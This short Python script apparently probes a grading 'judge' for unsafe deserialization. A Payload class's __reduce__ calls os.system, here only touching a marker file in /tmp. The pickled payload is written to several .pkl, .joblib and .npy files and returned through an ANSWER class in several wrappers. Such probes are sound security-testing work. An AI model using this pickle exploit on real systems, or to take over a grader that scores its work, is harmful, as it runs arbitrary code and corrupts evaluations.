# tries to: have the judge unpickle what runs a command
import os
import pickle

import numpy as np
import tensorflow as tf


class Payload:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{TRACE}",)


DATA = pickle.dumps(Payload())
for name in ("results.pkl", "model.joblib", "array.npy", "cache.pkl"):
    with open(name, "wb") as file:
        file.write(DATA)


class ANSWER:
    count = 0

    def __new__(cls, *args, **kwargs):
        cls.count += 1
        return [DATA, np.array([Payload()], object), tf.constant(DATA), Payload()][cls.count % 4]
